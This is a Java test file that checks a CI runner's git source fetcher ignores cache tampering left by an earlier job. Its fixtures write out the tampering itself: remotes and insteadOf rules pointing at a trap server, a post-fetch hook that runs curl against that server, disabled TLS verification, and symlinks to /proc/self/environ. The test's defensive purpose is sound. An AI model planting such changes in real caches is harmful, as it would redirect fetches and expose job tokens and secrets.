package dev.lambdarunner.sources;

import dev.lambdarunner.sources.RunnerFetch.Fetched;
import dev.lambdarunner.testsupport.FakeRepo;
import dev.lambdarunner.testsupport.GitExchange;
import dev.lambdarunner.testsupport.TrapServer;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.Ref;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.stream.Stream;

import static dev.lambdarunner.sources.CachedSources.head;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * What a job's code can plant in a repository's git object cache (it runs as the runner's user) is not trusted by
 * the next job of that repository: its fetch goes to GitLab only, with the token, and its sources are GitLab's.
 */
class SourceFetcherPlantedCacheTest {
    private final TrapServer trap = TrapServer.start();
    @RegisterExtension
    final CachedSources sources = new CachedSources();

    @AfterEach
    void stop() {
        trap.close();
    }

    /** Writes something into the warm cache {@code cache} of the repository at {@code gitLabUrl}. */
    interface Planting {
        void plant(Path cache, String gitLabUrl, String trapUrl) throws IOException;
    }

    static Stream<Named<Planting>> plantings() {
        return Stream.of(
                Named.of("a remote named like the repository's URL", (cache, url, trap) -> append(cache,
                        "[remote \"" + url + "\"]\n\turl = " + trap + "/stolen.git\n")),
                Named.of("url.<trap>.insteadOf the repository's URL", (cache, url, trap) -> append(cache,
                        "[url \"" + trap + "/\"]\n\tinsteadOf = " + url.substring(0, url.lastIndexOf('/') + 1) + "\n")),
                Named.of("an include of a file with such a remote", (cache, url, trap) -> {
                    Path included = Files.writeString(cache.resolveSibling("evil.config"),
                            "[remote \"" + url + "\"]\n\turl = " + trap + "/stolen.git\n");
                    append(cache, "[include]\n\tpath = " + included + "\n");
                }),
                Named.of("origin pointing at the trap, http settings and hooks", (cache, url, trap) -> {
                    append(cache, "[remote \"origin\"]\n\turl = " + trap + "/stolen.git\n"
                            + "[http]\n\tsslVerify = false\n\textraHeader = X-Planted: 1\n"
                            + "[core]\n\thooksPath = " + cache.resolve("hooks") + "\n");
                    Path hook = Files.createDirectories(cache.resolve("hooks")).resolve("post-fetch");
                    Files.writeString(hook, "#!/bin/sh\ncurl " + trap + "/hook\n");
                    Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwx------"));
                }),
                Named.of("alternates, links and a planted ref", (cache, url, trap) -> {
                    Path other = Files.createDirectories(cache.resolveSibling("planted-objects"));
                    Files.createDirectories(cache.resolve("objects/info"));
                    Files.writeString(cache.resolve("objects/info/alternates"), other + "\n");
                    Files.createSymbolicLink(cache.resolve("shallow"), Path.of("/proc/self/environ"));
                    Files.createSymbolicLink(cache.resolve("refs/heads/linked"), Path.of("/proc/self/environ"));
                    Files.writeString(cache.resolve("refs/heads/planted"), "ref: refs/heads/main\n");
                }));
    }

    @ParameterizedTest
    @MethodSource("plantings")
    void theNextJobFetchesFromGitLabOnlyAndGetsGitLabsSources(Planting planting) throws Exception {
        FakeRepo repo = sources.repo("group/victim");
        SourceFetcher fetcher = sources.warmed(repo, 20);
        Path cache = sources.cacheOf(repo);
        planting.plant(cache, sources.url(repo).toString(), trap.url());

        Fetched next = sources.fetch(fetcher, repo, 20);

        assertThat(trap.hits()).isEmpty();
        assertThat(next.exchanges()).isNotEmpty(); // it asked GitLab, with the job token
        assertThat(next.exchanges()).noneMatch(GitExchange::sentObjects); // and the cache stayed warm
        assertThat(next.log()).doesNotContain("Git object cache not usable");
        assertThat(head(next.dir())).isEqualTo(repo.sha());
        assertThat(next.dir().resolve("main.tf")).hasContent("resource \"terraform_data\" \"x\" {}");
        assertThat(Files.readString(cache.resolve("config"))).doesNotContain("remote", "url", "include", "http");
        try (Stream<Path> all = Files.walk(cache)) {
            assertThat(all.filter(Files::isSymbolicLink)).isEmpty();
        }
        assertThat(cache.resolve("hooks")).doesNotExist();
        assertThat(cache.resolve("objects/info/alternates")).doesNotExist();
    }

    @Test
    void aRefOnlyTheCacheHasNeverReachesTheWorkspace() throws Exception {
        FakeRepo repo = sources.repo("group/full");
        SourceFetcher fetcher = sources.warmed(repo, 0);
        Path cache = sources.cacheOf(repo);
        // a branch GitLab does not have, on a commit the cache holds: full clones fetch refs/heads/*
        Files.writeString(cache.resolve("refs/heads/planted"), repo.sha() + "\n");

        Fetched next = sources.fetch(fetcher, repo, 0);

        try (Git git = Git.open(next.dir().toFile())) {
            List<String> refs = git.getRepository().getRefDatabase().getRefs().stream().map(Ref::getName).toList();
            assertThat(refs).isNotEmpty().noneMatch(name -> name.contains("planted"));
        }
        assertThat(cache.resolve("refs/heads/planted")).doesNotExist();
    }

    @Test
    void filesPlantedNextToTheCachesAreRemoved() throws Exception {
        FakeRepo repo = sources.repo("group/tidy");
        SourceFetcher fetcher = sources.warmed(repo, 20);
        Path caches = sources.cacheDir();
        Files.writeString(caches.resolve("notes.txt"), "planted");
        Files.createDirectories(caches.resolve("0123456789abcdef0123456789abcdef.git.bak"));
        Files.createSymbolicLink(caches.resolve("fedcba9876543210fedcba9876543210.lock"), Path.of("/etc/hosts"));

        sources.fetch(fetcher, repo, 20);

        try (Stream<Path> left = Files.list(caches)) {
            assertThat(left.map(p -> p.getFileName().toString()))
                    .allMatch(name -> name.matches("[0-9a-f]{32}\\.(git|lock)"), "only caches and their locks")
                    .hasSize(2);
        }
    }

    private static void append(Path cache, String text) throws IOException {
        Files.writeString(cache.resolve("config"), Files.readString(cache.resolve("config")) + text);
    }
}
